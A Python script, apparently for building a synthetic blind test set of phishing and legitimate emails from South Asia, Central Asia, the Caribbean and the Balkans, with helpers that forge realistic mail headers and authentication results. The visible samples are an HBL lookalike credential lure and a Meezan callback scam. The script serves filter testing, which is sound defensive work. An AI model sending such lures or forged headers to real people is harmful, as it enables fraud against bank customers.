"""Blind set 22: mail from regions an email filter rarely sees (2024-2026).

The messages read as a regional CERT collected them from the mailboxes of
consumers and small and mid-sized companies in four areas:

- South Asia: Pakistan, Bangladesh, Sri Lanka, Nepal (English, Urdu, Roman
  Urdu, Bengali, Sinhala, Nepali);
- Central Asia: Kazakhstan and Uzbekistan (Russian, Kazakh, Uzbek);
- the Caribbean and Central America: Jamaica, Trinidad and Tobago, the
  Dominican Republic, Costa Rica, Guatemala, Panama (English, Spanish);
- Greece and the Balkans (Greek, Serbian in Latin and Cyrillic script,
  Croatian, Bulgarian, Albanian).

Recipients are people on Gmail, Outlook.com, Mail.ru and abv.bg, and
invented companies on Microsoft 365, Google Workspace, Yandex 360 or their
own Postfix server (a Faisalabad weaving mill, a Gazipur knitwear factory,
an Almaty freight forwarder, a Samarkand silk maker, a Costa Rican coffee
estate, a Piraeus ship-services firm, a Croatian travel agency, a Bulgarian
food producer...).

Attacks (50): local banks and wallets (HBL, Meezan, JazzCash, bKash,
Dutch-Bangla, Commercial Bank of Ceylon, Nabil, Kaspi, Halyk, Click, NCB,
Republic Bank, Banreservas, BAC Credomatic, Banco Industrial, Banco General,
Piraeus, Eurobank, Banca Intesa, Raiffeisen), posts and couriers (Pakistan
Post, Kazpost, ELTA, Hrvatska posta, Posta Srbije), tax and e-government
(FBR, NBR, Inland Revenue, eGov.kz, my.gov.uz, soliq.uz, DGII, AADE,
ePorezna, NAP), telecoms (Ncell, Digicel), e-commerce (Daraz), international
brands in the local language (DocuSign, PayPal, SharePoint, Google Forms,
Canva, Notion, Google Sites, Firebase), BEC (CEO fraud, gift cards, payroll
diversion, bank-detail change, reply-chain hijack), callback scams,
advance-fee (prizes, job offers) and five malware droppers (LNK in ZIP, JS in
ZIP, ISO with LNK and DLL, VBS in ZIP, macro DOCM).

Legitimate (25): the same kind of brands doing it right (Daraz, bKash,
Dialog, Halyk, Google, NCB, Banco General, DocuSign, Skroutz, Econt,
Microsoft, Zagrebacka banka, ELTA Courier), local newsletters (Dawn,
Kathimerini), and business and personal mail in those languages (invoices
with bank details, payment confirmations, accountant reminders, hotel
bookings, an internal IT notice, family mail with photos).

Every message is written by hand; nothing is copied from real phishing.
Run from the repository root:

    .venv/bin/python samples/tools/build_blind22_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import html as htmlmod
import io
import re
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
N = 22

# --------------------------------------------------------------------------
# Deterministic tokens
# --------------------------------------------------------------------------

B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _stream(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).digest()
        i += 1
    return out[:n]


def tok(seed: str, n: int = 16, alphabet: str = B62) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _stream(seed, n))


def hexs(seed: str, n: int = 16) -> str:
    return tok(seed, n, "0123456789abcdef")


def b64u(s: str) -> str:
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


# --------------------------------------------------------------------------
# Header helpers
# --------------------------------------------------------------------------


def enc(value: str) -> str:
    """RFC 2047 B-encode (UTF-8) when not ASCII, in words of at most 45 bytes."""
    if all(ord(c) < 128 for c in value):
        return value
    words, cur = [], ""
    for ch in value:
        if len((cur + ch).encode()) > 45:
            words.append(cur)
            cur = ""
        cur += ch
    words.append(cur)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def fmt_addr(name: str | None, email: str) -> str:
    if not name:
        return email
    if any(ord(c) > 127 for c in name):
        return f"{enc(name)} <{email}>"
    if re.search(r'[(),.:;<>@\[\]"]', name):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


def when(y, mo, d, hh, mi, ss, tz_minutes) -> datetime:
    return datetime(y, mo, d, hh, mi, ss, tzinfo=timezone(timedelta(minutes=tz_minutes)))


def rfc(dt: datetime) -> str:
    return format_datetime(dt)


def pacific(dt: datetime) -> str:
    """Gmail's MX stamps in Pacific time."""
    u = dt.astimezone(timezone.utc).replace(tzinfo=None)
    march = datetime(u.year, 3, 8 + (6 - datetime(u.year, 3, 8).weekday()) % 7, 10)  # 2nd Sunday, 2am PST
    nov = datetime(u.year, 11, 1 + (6 - datetime(u.year, 11, 1).weekday()) % 7, 9)  # 1st Sunday, 2am PDT
    dst = march <= u < nov
    off = -7 if dst else -8
    local = dt.astimezone(timezone(timedelta(hours=off)))
    return format_datetime(local) + (" (PDT)" if dst else " (PST)")


def utc(dt: datetime) -> str:
    return format_datetime(dt.astimezone(timezone.utc)).replace("-0000", "+0000")


def at_tz(dt: datetime, hours: float) -> str:
    return format_datetime(dt.astimezone(timezone(timedelta(hours=hours))))


def dkim_header(d: str, s: str, seed: str, dt: datetime,
                h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type") -> str:
    bh = base64.b64encode(_stream(seed + "bh", 32)).decode()
    b = base64.b64encode(_stream(seed + "sig", 256)).decode()
    folded = "\n\t ".join(b[i:i + 70] for i in range(0, len(b), 70))
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; "
            f"t={int(dt.timestamp())}; h={h};\n\tbh={bh};\n\tb={folded}")


def dkim_b8(seed: str) -> str:
    return base64.b64encode(_stream(seed + "sig", 256)).decode()[:8]


# Recipient mail systems ----------------------------------------------------

M365_EOP = {
    "apac": ("SG2PEPF000B66CB.apcprd03.prod.outlook.com", "10.167.242.197"),
    "eur": ("AM4PEPF00027A64.eurprd04.prod.outlook.com", "10.167.16.202"),
    "nam": ("SA2PEPF00003AE8.namprd02.prod.outlook.com", "10.167.241.136"),
}


def mx_block(m: dict, rcpt: str, dt: datetime) -> list[str]:
    """Return-Path, the MX's Received line and its authentication results."""
    a = m["auth"]
    helo, ip = m["relay"][0], m["relay"][1]
    rdns = m["relay"][2] if len(m["relay"]) > 2 else helo
    mf = a["mailfrom"]
    mfd = mf.split("@")[-1]
    fd = m["frm"][1].split("@")[-1]
    seed = m["slug"]
    d, s = a.get("d"), a.get("s")
    kind = m["mx"].split(":")[0]
    out = [f"Return-Path: <{mf}>"]
    if kind == "gmail":
        gid = f"af79cd13be357-{hexs(seed + 'gid', 12)}si{tok(seed + 'g2', 6, '0123456789')}.{tok(seed, 3, '0123456789')}"
        out.append(f"Received: from {helo} ({rdns} [{ip}])\n        by mx.google.com with ESMTPS id {gid}\n"
                   f"        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
                   f"        {pacific(dt)}")
        spf = {
            "pass": f"pass (google.com: domain of {mf} designates {ip} as permitted sender) smtp.mailfrom={mf}",
            "fail": f"fail (google.com: domain of {mf} does not designate {ip} as permitted sender) smtp.mailfrom={mf}",
            "softfail": (f"softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted "
                         f"sender) smtp.mailfrom={mf}"),
            "none": f"none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}",
        }[a["spf"]]
        out.append(f"Received-SPF: {spf.split(' ')[0]} {spf[len(spf.split(' ')[0]) + 1:].rsplit(' smtp.', 1)[0]} "
                   f"client-ip={ip};")
        parts = []
        if a["dkim"] in ("pass", "fail"):
            parts.append(f"dkim={a['dkim']} header.i=@{d} header.s={s} header.b={dkim_b8(seed)}")
        parts.append(f"spf={spf}")
        if a["dmarc"] != "none":
            p = a.get("p", "NONE")
            dis = "NONE" if a["dmarc"] == "pass" or p == "NONE" else p
            parts.append(f"dmarc={a['dmarc']} (p={p} sp={p} dis={dis}) header.from={fd}")
        out.append("Authentication-Results: mx.google.com;\n       " + ";\n       ".join(parts))
    elif kind == "m365":
        eop, eip = M365_EOP[m["mx"].split(":")[1]]
        short = eop.split(".")[0]
        out.append(f"Received: from {helo} ({ip}) by\n {short}.mail.protection.outlook.com ({eip}) with Microsoft SMTP Server\n"
                   f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8722.4 via Frontend\n Transport; {utc(dt)}")
        spf_word = {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none"}[a["spf"]]
        dk = (f"dkim=pass (signature was verified)\n header.d={d}" if a["dkim"] == "pass" else
              f"dkim=fail (body hash did not verify)\n header.d={d}" if a["dkim"] == "fail" else
              "dkim=none (message not signed)\n header.d=none")
        if a["dmarc"] == "pass":
            dm, ca = f"dmarc=pass action=none header.from={fd}", "compauth=pass reason=100"
        elif a["dmarc"] == "fail":
            action = {"NONE": "none", "QUARANTINE": "quarantine", "REJECT": "oreject"}[a.get("p", "NONE")]
            dm, ca = f"dmarc=fail action={action} header.from={fd}", "compauth=fail reason=000"
        else:
            dm, ca = f"dmarc=none action=none header.from={fd}", "compauth=softpass reason=201"
        out.append(f"Authentication-Results: spf={spf_word} (sender IP is {ip})\n smtp.mailfrom={mfd}; {dk};{dm};{ca}")
        rs = {"pass": f"Pass (protection.outlook.com: domain of {mfd} designates {ip} as permitted sender)",
              "fail": f"Fail (protection.outlook.com: domain of {mfd} does not designate {ip} as permitted sender)",
              "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {mfd} discourages use of {ip} as permitted sender)",
              "none": f"None (protection.outlook.com: {mfd} does not designate permitted sender hosts)"}[a["spf"]]
        out.append(f"Received-SPF: {rs}\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    elif kind == "mailru":
        out.append(f"Received: from [{ip}] (port={40000 + int(hexs(seed, 4), 16) % 20000} helo={helo})\n\tby mxs.mail.ru with esmtps (TLS1.3)\n"
                   f"\t(envelope-from <{mf}>)\n\tid 1t{tok(seed + 'mr', 5)}-00{tok(seed + 'mr2', 4)}-{tok(seed, 2)}\n\tfor {rcpt}; {at_tz(dt, 3)}")
        parts = [f"spf={a['spf']} (mxs.mail.ru: domain of {mfd} "
                 f"{'designates' if a['spf'] == 'pass' else 'does not designate'} {ip} as permitted sender) "
                 f"smtp.mailfrom={mf} smtp.helo={helo}"]
        if a["dkim"] in ("pass", "fail"):
            parts.append(f"dkim={a['dkim']} header.d={d}")
        parts.append(f"dmarc={a['dmarc']} header.from={fd}")
        out.append("Authentication-Results: mxs.mail.ru;\n\t " + ";\n\t ".join(parts))
    elif kind == "yandex":
        host = "mail-nwsmtp-mxfront-production-main-62.iva.yp-c.yandex.net"
        out.append(f"Received: from {helo} ({rdns} [{ip}])\n\tby {host} (mxfront/Yandex) with ESMTPS id "
                   f"{tok(seed + 'yx', 10)}-{tok(seed + 'yy', 8)};\n\t{at_tz(dt, 3)}")
        parts = [f"spf={a['spf']} ({host}: domain of {mfd} "
                 f"{'designates' if a['spf'] == 'pass' else 'does not designate'} {ip} as permitted sender) smtp.mail={mf}"]
        if a["dkim"] in ("pass", "fail"):
            parts.append(f"dkim={a['dkim']} header.i=@{d}")
        parts.append(f"dmarc={a['dmarc']} header.from={fd}")
        out.append(f"Authentication-Results: {host};\n\t" + ";\n\t".join(parts))
    elif kind == "postfix":
        host, tzh = m["mx"].split(":")[1], float(m["mx"].split(":")[2])
        qid = tok(seed + "qid", 11, "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz")
        out.append(f"Received: from {helo} ({rdns} [{ip}])\n\tby {host} (Postfix) with {m.get('proto', 'ESMTPS')} id 4{qid}\n"
                   f"\tfor <{rcpt}>; {at_tz(dt, tzh)}")
        parts = []
        if a["dkim"] in ("pass", "fail"):
            parts.append(f"dkim={a['dkim']} (2048-bit key; unprotected) header.d={d} header.i=@{d} "
                         f"header.a=rsa-sha256 header.s={s} header.b={dkim_b8(seed)}")
        else:
            parts.append("dkim=none")
        parts.append(f"spf={a['spf']} smtp.mailfrom={mf}")
        if a["dmarc"] != "none":
            parts.append(f"dmarc={a['dmarc']} (p={a.get('p', 'NONE').lower()} dis=none) header.from={fd}")
        out.append(f"Authentication-Results: {host};\n\t" + ";\n\t".join(parts))
    else:
        raise ValueError(kind)
    return out


# Sender-side hops -------------------------------------------------------------


def hop(kind: str, dt: datetime, seed: str, **kw) -> str:
    """One Received line written by the sender's own systems."""
    if kind == "gmail":  # Gmail / Workspace outbound
        return (f"Received: by {kw['host']} with SMTP id {hexs(seed + 'gs', 10)}-{hexs(seed + 'gs2', 12)}.{tok(seed, 2, '0123456789')};\n"
                f"        {pacific(dt)}")
    if kind == "exchange":  # Exchange Online, between its own servers
        return (f"Received: from {kw['src']} (2603:10a6:{hexs(seed + 'v6', 3)}:{hexs(seed + 'v7', 2)}::{hexs(seed + 'v8', 2)}) by\n"
                f" {kw['dst']} (2603:10a6:{hexs(seed + 'v9', 3)}::{hexs(seed + 'va', 2)}) with Microsoft SMTP\n"
                f" Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8722.4; {utc(dt)}")
    if kind == "postfix-auth":  # authenticated submission on a Postfix server
        qid = tok(seed + "sub", 10, "0123456789ABCDEF")
        return (f"Received: from [{kw.get('client', '192.168.1.20')}] (unknown [{kw['ip']}])\n"
                f"\t(Authenticated sender: {kw['user']})\n\tby {kw['by']} (Postfix) with ESMTPSA id {qid};\n\t{rfc(dt)}")
    if kind == "php":  # a web server's local mail() call
        qid = tok(seed + "php", 10, "0123456789ABCDEF")
        return f"Received: by {kw['by']} (Postfix, from userid {kw.get('uid', 33)})\n\tid {qid}; {rfc(dt)}"
    if kind == "exim":  # cPanel host relaying a logged-in (compromised) account
        return (f"Received: from [{kw['ip']}] (port={kw.get('port', 52814)} helo=[{kw.get('helo', '10.0.0.14')}])\n"
                f"\tby {kw['by']} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                f"\t(Exim 4.97.1)\n\t(envelope-from <{kw['env']}>)\n\tid 1t{tok(seed + 'ex', 5)}-00{tok(seed + 'ex2', 4)}-{tok(seed, 2)};\n"
                f"\t{rfc(dt)}")
    if kind == "mailru":
        return f"Received: by f{tok(seed, 3, '0123456789')}.i.mail.ru with local (envelope-from <{kw['env']}>)\n\tid 1t{tok(seed + 'ml', 5)}-00{tok(seed + 'ml2', 4)}-{tok(seed, 2)};\n\t{at_tz(dt, 3)}"
    if kind == "mta":  # an ESP's injector to its outbound MTA
        return f"Received: from {kw['src']} ({kw['src']} [{kw['ip']}])\n\tby {kw['by']} ({kw.get('soft', 'Postfix')}) with ESMTP id {tok(seed + 'mta', 12)};\n\t{rfc(dt)}"
    raise ValueError(kind)


# --------------------------------------------------------------------------
# Message-IDs and boundaries
# --------------------------------------------------------------------------


def mid(style: str, seed: str, domain: str = "") -> str:
    if style == "gmail":
        return f"<CA{tok(seed + 'm1', 3)}+{tok(seed + 'm2', 40)}@mail.gmail.com>"
    if style == "outlook":
        host = domain or "PA4PR08MB7321.eurprd08.prod.outlook.com"
        return f"<{host.split('.')[0]}{tok(seed, 32, '0123456789ABCDEF')}@{host}>"
    if style == "outlook-pop":  # Outlook desktop on an IMAP/SMTP account
        return f"<{hexs(seed + 'op', 12)}${hexs(seed + 'oq', 8)}${hexs(seed + 'or', 8)}$@{domain}>"
    if style == "uuid":
        h = hexs(seed + "u", 32)
        return f"<{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}@{domain}>"
    if style == "ses":
        h = hexs(seed + "s", 32)
        return f"<01000193{h[:8]}-{h[8:16]}-{h[16:20]}-{h[20:24]}-{h[24:]}-000000@email.amazonses.com>"
    return f"<{hexs(seed + 'k', 32)}@{domain}>"


def bnd(style: str, seed: str) -> str:
    if style == "gmail":
        return "000000000000" + hexs(seed + "b", 16)
    if style == "outlook":
        return f"_000_{tok(seed + 'o', 36, '0123456789ABCDEF')}_"
    if style == "php":
        return "b1_" + tok(seed + "p", 40)
    if style == "mkt":
        return f"----=_Part_{tok(seed, 6, '0123456789')}_{tok(seed + 'q', 9, '0123456789')}.{tok(seed + 'r', 13, '0123456789')}"
    if style == "tb":
        return "------------" + tok(seed + "t", 24)
    return "=_" + hexs(seed + "x", 28)


# --------------------------------------------------------------------------
# Body helpers
# --------------------------------------------------------------------------


def html_to_text(html: str) -> str:
    s = re.sub(r"(?is)<(style|script|head|title)\b.*?</\1>", "", html)
    s = re.sub(r"(?is)<a\b[^>]*href=\"([^\"]+)\"[^>]*>(.*?)</a>", lambda mm: f"{re.sub(r'<[^>]+>', '', mm.group(2)).strip()} [{mm.group(1)}]", s)
    s = re.sub(r"(?i)<br\s*/?>", "\n", s)
    s = re.sub(r"(?i)</(p|div|tr|h[1-6]|li|table)>", "\n", s)
    s = re.sub(r"<[^>]+>", "", s)
    s = htmlmod.unescape(s)
    lines = [re.sub(r"[ \t\u00a0]+", " ", line).strip() for line in s.split("\n")]
    out, blank = [], False
    for line in lines:
        if not line:
            if not blank and out:
                out.append("")
            blank = True
        else:
            out.append(line)
            blank = False
    return "\n".join(out).strip() + "\n"


def alt(seed: str, html: str, plain: str | None = None, style: str = "mkt", enc_: str = "quoted-printable") -> Multi:
    plain = plain if plain is not None else html_to_text(html)
    return Multi("alternative", bnd(style, seed + "alt"),
                 [text(plain, encoding=enc_), text(html, "html", encoding=enc_)])


def mixed(seed: str, first, *atts, style: str = "mkt") -> Multi:
    return Multi("mixed", bnd(style, seed + "mix"), [first, *atts])


def related(seed: str, html_part, *inline, style: str = "mkt") -> Multi:
    return Multi("related", bnd(style, seed + "rel"), [html_part, *inline], params=' type="multipart/alternative";')


def att(content_type: str, name: str, data: bytes) -> Leaf:
    """An attachment; non-ASCII names get RFC 2231 parameters."""
    if all(ord(c) < 128 for c in name):
        return attachment(content_type, name, data)
    q = quote(name, safe="")
    return Leaf(content_type, data, "base64", f"; name*=UTF-8''{q}", f"attachment; filename*=UTF-8''{q}")


def gmail_body(seed: str, plain: str) -> Multi:
    """What Gmail's web composer sends for a plain message."""
    paras = plain.strip("\n").split("\n")
    inner = "".join(f"<div>{htmlmod.escape(p) if p else '<br>'}</div>" for p in paras)
    return Multi("alternative", bnd("gmail", seed), [
        text(plain, encoding="base64" if any(ord(c) > 0x2FF for c in plain) else "quoted-printable"),
        text(f'<div dir="ltr">{inner}</div>\n', "html",
             encoding="base64" if any(ord(c) > 0x2FF for c in plain) else "quoted-printable"),
    ])


def outlook_body(seed: str, plain: str, lang: str = "en-US") -> Multi:
    """What Outlook desktop sends: plain + Word-flavoured HTML."""
    paras = plain.strip("\n").split("\n")
    body = "\n".join(f'<p class="MsoNormal">{htmlmod.escape(p) if p else "&nbsp;"}<o:p></o:p></p>' for p in paras)
    html = (f'<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            f'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            f'p.MsoNormal, li.MsoNormal, div.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}}\n'
            f'@page WordSection1 {{size:612.0pt 792.0pt; margin:72.0pt 72.0pt 72.0pt 72.0pt;}}\n'
            f'div.WordSection1 {{page:WordSection1;}}\n--></style>\n</head>\n'
            f'<body lang="{lang}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{body}\n</div>\n</body>\n</html>\n')
    return Multi("alternative", bnd("outlook", seed), [text(plain), text(html, "html")])


def kit_html(brand: str, color: str, heading: str, paras: list[str], button: tuple[str, str] | None,
             footer: str, lang: str = "en", direction: str = "ltr", logo_url: str = "") -> str:
    """The table layout most bank / courier lures use."""
    logo = (f'<img src="{logo_url}" alt="{htmlmod.escape(brand)}" height="36" style="display:block;border:0">'
            if logo_url else f'<span style="font-size:22px;font-weight:bold;color:#ffffff">{htmlmod.escape(brand)}</span>')
    ptxt = "\n".join(f'<p style="margin:0 0 14px 0;font-size:14px;line-height:21px;color:#333333">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:22px 0"><tr>'
               f'<td bgcolor="{color}" style="border-radius:4px"><a href="{button[1]}" target="_blank" '
               f'style="display:inline-block;padding:12px 28px;font-size:15px;color:#ffffff;text-decoration:none;font-weight:bold">'
               f'{button[0]}</a></td></tr></table>')
    return (f'<!DOCTYPE html>\n<html lang="{lang}" dir="{direction}">\n<head>\n<meta charset="utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{htmlmod.escape(brand)}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background:#f2f4f6;font-family:Arial,Helvetica,sans-serif">\n'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f4f6"><tr><td align="center" style="padding:24px 8px">\n'
            f'<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:600px">\n'
            f'<tr><td bgcolor="{color}" style="padding:18px 28px">{logo}</td></tr>\n'
            f'<tr><td style="padding:28px 28px 8px 28px">\n<h2 style="margin:0 0 18px 0;font-size:20px;color:#222222">{heading}</h2>\n'
            f'{ptxt}\n{btn}\n</td></tr>\n'
            f'<tr><td style="padding:16px 28px;background:#fafafa;border-top:1px solid #e5e5e5;font-size:11px;line-height:16px;color:#888888">{footer}</td></tr>\n'
            f'</table>\n</td></tr></table>\n</body>\n</html>\n')


def png_inline(seed: str, url: str, name: str = "qr.png") -> tuple[Leaf, str]:
    cid = f"{hexs(seed + 'cid', 12)}@{hexs(seed + 'cid2', 6)}"
    leaf = Leaf("image/png", files.qr_png(url), "base64", f'; name="{name}"', f'inline; filename="{name}"',
                [f"Content-ID: <{cid}>"])
    return leaf, cid


# --------------------------------------------------------------------------
# Attachment builders
# --------------------------------------------------------------------------


def pdf_qr(lines: list[str], url: str, title: str, below: list[str] | None = None) -> bytes:
    """A one-page PDF: text lines, a QR code image, more text under it."""
    from PIL import Image

    img = Image.open(io.BytesIO(files.qr_png(url))).convert("L")
    w, h = img.size
    data = zlib.compress(img.tobytes(), 9)
    esc = files._pdf_escape
    content = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"]
    content += [f"({esc(line)}) Tj T*" for line in lines]
    content += ["ET", f"q 190 0 0 190 202 {760 - 16 * len(lines) - 200} cm /Im1 Do Q"]
    if below:
        content += ["BT", "/F1 10 Tf", "14 TL", f"56 {740 - 16 * len(lines) - 210} Td"]
        content += [f"({esc(line)}) Tj T*" for line in below]
        content += ["ET"]
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, data, w, h, "FlateDecode")
    objects.append(f"<< /Title ({esc(title)}) /Producer (Skia/PDF m121) /CreationDate (D:20250610091500+03'00') >>".encode())
    return files.pdf_file(objects, len(objects))


def pdf_doc(lines: list[str], title: str, link: tuple[str, tuple[int, int, int, int]] | None = None) -> bytes:
    return files.pdf(lines, link=link, title=title)


# --------------------------------------------------------------------------
# The messages
# --------------------------------------------------------------------------

MESSAGES: list[dict] = []


def add(**m) -> None:
    MESSAGES.append(m)


# Sender profiles: (relay tuple, inner hop kinds, auth) for common cases ----------


def gmail_sender(addr: str, n: int) -> dict:
    ips = ["209.85.221.44", "209.85.128.179", "209.85.208.53", "209.85.218.47", "209.85.214.173", "209.85.167.50"]
    ip = ips[n % len(ips)]
    host = f"mail-{['wr1-f44', 'wm1-f51', 'ed1-f53', 'ej1-f47', 'pl1-f173', 'lf1-f50'][n % 6]}.google.com"
    return dict(relay=(host, ip), inner=[("gmail", dict(host=host))],
                auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="gmail.com", s="20230601", mailfrom=addr),
                dkim=("gmail.com", "20230601"), style="gmail", mid_style="gmail")


def outlookcom_sender(addr: str, n: int) -> dict:
    hosts = [("EUR05-AM6-obe.outbound.protection.outlook.com", "40.92.58.102", "AM6PR0202MB3382.eurprd02.prod.outlook.com"),
             ("APC01-SG2-obe.outbound.protection.outlook.com", "40.92.52.87", "SEZPR06MB5269.apcprd06.prod.outlook.com"),
             ("NAM12-DM6-obe.outbound.protection.outlook.com", "40.92.22.19", "DM6PR12MB4417.namprd12.prod.outlook.com")]
    h = hosts[n % 3]
    return dict(relay=(h[0], h[1], f"mail-{h[0].lower()}"), inner=[("exchange", dict(src=h[2], dst=h[2].replace("MB", "MB0", 1)))],
                auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="outlook.com", s="selector1", mailfrom=addr),
                dkim=("outlook.com", "selector1"), style="outlook", mid_style="outlook", mid_domain=h[2])


def kit_sender(domain: str, ip: str, n: int = 0, host: str | None = None, p: str = "NONE") -> dict:
    """A lookalike domain on a rented VPS, with its own SPF, DKIM and DMARC."""
    host = host or f"mail.{domain}"
    return dict(relay=(host, ip), inner=[("php", dict(by=host))],
                auth=dict(spf="pass", dkim="pass", dmarc="pass", p=p, d=domain, s="default", mailfrom=f"bounce@{domain}"),
                dkim=(domain, "default"), style="kit", mid_style="kit")


def spoof_sender(helo: str, ip: str, mailfrom: str, spf: str = "softfail", p: str = "NONE", dmarc: str = "fail") -> dict:
    """A bulletproof VPS putting a protected brand's address in From: (no DKIM for it)."""
    return dict(relay=(helo, ip, "unknown"), inner=[("php", dict(by=helo))],
                auth=dict(spf=spf, dkim="none", dmarc=dmarc, p=p, mailfrom=mailfrom), dkim=None,
                style="kit", mid_style="kit")


def mailbox(relay: tuple, inner: list, domain: str, sel: str, addr: str, style: str, mid_style: str,
                p: str = "NONE", mid_domain: str = "") -> dict:
    """A real mailbox on its own domain (hijacked, or simply legitimate): everything passes."""
    return dict(relay=relay, inner=inner,
                auth=dict(spf="pass", dkim="pass", dmarc="pass", p=p, d=domain, s=sel, mailfrom=addr),
                dkim=(domain, sel), style=style, mid_style=mid_style, mid_domain=mid_domain or domain)


def esp(relay: tuple, inner: list, domain: str, sel: str, mailfrom: str, p: str = "REJECT",
        mid_style: str = "kit", mid_domain: str = "", style: str = "mkt") -> dict:
    """A brand or service sending through its own platform or an ESP: aligned and passing."""
    return dict(relay=relay, inner=inner,
                auth=dict(spf="pass", dkim="pass", dmarc="pass", p=p, d=domain, s=sel, mailfrom=mailfrom),
                dkim=(domain, sel), style=style, mid_style=mid_style, mid_domain=mid_domain or domain)


# ==========================================================================
# ATTACKS - South Asia
# ==========================================================================

# 1 HBL, lookalike domain, English + Urdu, tracking redirect to pages.dev
_u = "https://hblmobile-biometric.pages.dev/verify/?cnic=1&sess=" + tok("hbl1", 22)
add(slug="pk-hbl-cnic-reverify", kind="phish", cat="phishing",
    desc="HBL Mobile lookalike (hbl-digitalsecure.com, passing its own SPF/DKIM) citing an invented SBP circular, English and Urdu, tracking redirect to a pages.dev credential page.",
    dt=when(2025, 2, 11, 9, 14, 22, 300), frm=("HBL Mobile", "alerts@hbl-digitalsecure.com"),
    to=("Ahmed Raza", "ahmed.raza1987@gmail.com"), mx="gmail",
    subject="HBL Mobile: Biometric CNIC re-verification pending | شناختی کارڈ کی تصدیق زیر التوا ہے",
    **kit_sender("hbl-digitalsecure.com", "185.234.72.141"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("hbl1", kit_html(
        "HBL", "#00826E", "Biometric re-verification required",
        ["Dear Valued Customer,",
         "As per State Bank of Pakistan directive BPRD Circular No. 04 of 2025, all HBL Mobile users are required to "
         "re-verify their CNIC against NADRA biometric records. Our records show that your verification is still <b>pending</b>.",
         "Please complete the verification within <b>24 hours</b>. After this period your HBL Mobile access and debit card "
         "will be temporarily blocked until you visit your branch.",
         '<span dir="rtl" style="font-family:Tahoma,Arial">محترم صارف، اسٹیٹ بینک آف پاکستان کی ہدایات کے مطابق تمام HBL Mobile '
         "صارفین کے لیے شناختی کارڈ کی بائیومیٹرک تصدیق لازمی ہے۔ براہ کرم 24 گھنٹوں کے اندر تصدیق مکمل کریں، ورنہ آپ کا اکاؤنٹ "
         "عارضی طور پر بند کر دیا جائے گا۔</span>"],
        ("Verify Now / ابھی تصدیق کریں", f"https://hbl-digitalsecure.com/trk/c.php?u={b64u(_u)}&m={tok('hbl1m', 10)}"),
        "HBL - Habib Bank Limited. HBL PhoneBanking: 111-111-425. This is a system generated email, please do not reply.",
        logo_url="https://hbl-digitalsecure.com/assets/img/hbl-logo-white.png"), style="php"))

# 2 Meezan Bank, display name on Gmail, callback number, no link
add(slug="pk-meezan-raast-callback", kind="phish", cat="phishing",
    desc="Callback scam: fake Meezan Bank Raast debit alert sent from a Gmail address with a bank display name, urging the victim to ring a mobile 'fraud desk' number; no link.",
    dt=when(2025, 1, 14, 11, 48, 3, 300), frm=("Meezan Bank Alerts", "meezanbank.alerts.pk@gmail.com"),
    to=("Sana Malik", "sana.malik.khi@gmail.com"), mx="gmail",
    subject="Transaction Alert: PKR 185,000.00 debited from your Meezan account",
    **gmail_sender("meezanbank.alerts.pk@gmail.com", 0),
    extra=[],
    body=gmail_body("meez2", """Assalam-o-Alaikum,

Dear Valued Customer,

A Raast transfer of PKR 185,000.00 has been initiated from your Meezan Bank account ending 4417.

Beneficiary: M. ASIF
Beneficiary IBAN: PK36SCBL0000001123456702
Date/Time: 14-Jan-2025 11:42 AM
Channel: Meezan Mobile App (new device)

